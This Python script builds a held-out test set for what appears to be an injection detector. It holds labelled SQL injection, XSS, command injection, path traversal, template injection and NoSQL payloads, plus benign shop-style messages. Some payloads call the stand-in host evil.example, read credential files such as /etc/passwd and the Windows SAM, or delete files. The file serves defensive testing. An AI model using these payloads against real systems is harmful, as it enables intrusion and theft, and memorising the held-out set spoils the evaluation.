#!/usr/bin/env python3
"""A second held-out set, written after the first one (holdout.py) had been used to fix gaps, so
that one is no longer held out. Never used for tuning; reported, not asserted."""
import json

attacks = {
    "sqli": [
        "' or true--",
        "1 and 1 in (select 1)",
        "x' union distinct select 1,2 from dual-- -",
        "1' and updatexml(1,concat(0x2e,user()),1)-- ",
        "'; exec master..xp_dirtree '\\\\evil.example\\a'--",
        "1' or '1' like '1",
        "0x31 or 1=1",
        "' or 1 between 1 and 2 --",
        "admin' or 1=1 limit 1 -- -",
        "1)) or ((1=1",
        "\" or 1=1 or \"\"=\"",
        "1 procedure analyse()",
    ],
    "xss": [
        "<img src=`x` onerror=alert(1)>",
        "<svg><script>alert&lpar;1&rpar;</script>",
        "\" onpointerenter=alert(1) x=\"",
        "<a href=\"&#x6a;avascript:alert(1)\">",
        "<object data=javascript:alert(1)>",
        "</title><script>alert(1)</script>",
        "<iframe/src=\"data:text/html,<script>alert(1)</script>\">",
        "%3Csvg%2Fonload%3Dalert(1)%3E",
        "<select autofocus onfocus=alert(1)>",
        "javascript://%0aalert(1)",
        "<base href=\"javascript:/a/-alert(1)///////\">",
        "';top['al'+'ert'](1);//",
    ],
    "cmdi": [
        "; /bin/cat /etc/hosts",
        "a && id -u",
        "$(id -un)",
        "|whoami",
        "`curl evil.example`",
        "x; ls${IFS}-la",
        "& ipconfig /all",
        "; python3 -c 'import os'",
        "|| sh -c id",
        "\nbash -c 'id'",
        "; rm -rf /tmp/x",
        "& powershell.exe -nop -c whoami",
    ],
    "traversal": [
        "../../../../../../etc/group",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fversion",
        "..%5c..%5c..%5cboot.ini",
        "/..%2f..%2f..%2fetc/issue",
        "zip://shell.jpg%23payload.php",
        "phar:///tmp/a.phar/x",
        "....//....//....//etc/passwd",
        "..%2f..%2f.htpasswd",
        "\\\\..\\\\..\\\\..\\\\web.config",
    ],
    "ssti": [
        "{{ 4*4 }}{{ 5*5 }}",
        "{{''.__class__}}",
        "${ 6*6 }",
        "<%= 6 * 6 %>",
        "{{ config['SECRET_KEY'] }}",
        "#{ T(java.lang.System).getenv() }",
        "{{ self.__dict__ }}",
        "${ \"freemarker.template.utility.Execute\"?new()(\"id\") }",
    ],
}
nosql = [
    {"email": {"$ne": "x"}},
    {"$or": [{"a": 1}, {"b": 1}]},
    {"age": {"$exists": True}},
    {"name": {"$not": {"$eq": ""}}},
]
benign = [
    "The Rock 'n' Roll Hall of Fame (Cleveland) — worth it?",
    "Can I order 2 × 'Blue Mug' and 1 × 'Red Mug'?",
    "if (x > 0 && y < 10) { return x; }",
    "SELECT a seat near the window; thanks!",
    "My username is john_doe-99; password reset please",
    "50% cotton / 50% polyester",
    "Dear Sir/Madam, I'm writing about invoice #A-1123.",
    "Café au lait, crème brûlée & pain au chocolat",
    "नमस्ते, मुझे मदद चाहिए",
    "안녕하세요, 배송은 언제 되나요?",
    "שלום, מתי ההזמנה תגיע?",
    "Bring snacks; drinks are on me",
    "See section 3.2.1 of the manual (page 14)",
    "Kids' sizes: 3-4y, 5-6y, 7-8y",
    "Email: first.last+shop@example.org",
    "I ordered on 2024-03-05 at 14:30 UTC",
    "Please ship to Apt. 4B, 221B Baker St.",
    "I'll be away 12/24 – 01/02; hold the parcel",
    "Ratings: ★★★★☆ (4/5)",
    "What does `git rebase -i` do?",
    "Use a <br> tag for line breaks in the description?",
    "Drop-off point: Union Square, near the fountain",
    "Echo & the Bunnymen vinyl, 1984 press",
    "Can the cat tree hold 2 cats?",
    "The price dropped from $120 to $99 - nice!",
]
with open("holdout2.jsonl", "w", encoding="utf-8") as f:
    for label, items in attacks.items():
        for p in items:
            f.write(json.dumps({"label": label, "kind": "query", "payload": p}, ensure_ascii=False) + "\n")
    for d in nosql:
        f.write(json.dumps({"label": "nosql", "kind": "json", "payload": json.dumps(d)}) + "\n")
    for p in benign:
        f.write(json.dumps({"label": "benign", "kind": "query", "payload": p}, ensure_ascii=False) + "\n")
        f.write(json.dumps({"label": "benign", "kind": "form", "payload": p}, ensure_ascii=False) + "\n")
